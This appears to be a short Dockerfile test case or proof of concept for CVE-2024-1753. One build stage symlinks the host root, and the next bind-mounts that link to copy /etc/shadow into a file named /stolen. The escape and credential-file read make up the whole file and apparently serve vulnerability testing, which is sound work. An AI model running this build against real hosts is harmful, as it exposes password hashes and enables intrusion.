# The same through a stage holding a link to / (CVE-2024-1753).
FROM busybox AS link
RUN ln -s / /rootlink
FROM busybox
RUN --mount=type=bind,from=link,source=/rootlink,target=/h cat /h/etc/shadow > /stolen
